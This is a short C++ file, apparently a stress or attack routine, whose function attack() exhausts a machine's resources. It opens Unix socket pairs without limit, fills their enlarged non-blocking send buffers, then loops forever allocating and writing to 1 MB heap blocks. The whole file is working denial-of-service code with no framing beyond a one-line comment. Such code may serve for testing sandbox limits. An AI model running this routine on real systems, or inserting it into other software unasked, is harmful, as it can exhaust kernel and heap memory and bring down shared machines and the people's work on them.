// Fills the buffers of sockets, and then the heap.
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

static char piece[1 << 17];

void attack() {
  int ends[2];
  while (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0) {
    int size = 1 << 20;
    for (int end : ends) setsockopt(end, SOL_SOCKET, SO_SNDBUF, &size, sizeof size), fcntl(end, F_SETFL, O_NONBLOCK);
    for (int end : ends)
      while (write(end, piece, sizeof piece) > 0);
  }
  for (;;)
    if (void *more = malloc(1 << 20)) memset(more, 1, 1 << 20);
}
